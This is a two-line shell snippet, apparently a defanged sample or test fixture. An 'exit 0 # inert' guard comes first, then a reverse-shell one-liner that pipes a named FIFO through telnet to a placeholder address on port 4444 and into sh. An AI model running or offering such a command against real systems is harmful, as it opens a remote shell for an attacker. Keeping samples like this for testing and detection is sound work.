exit 0 # inert
f=$(mktemp -u); mkfifo $f && telnet 192.0.2.1 4444 0<$f | sh 1>$f
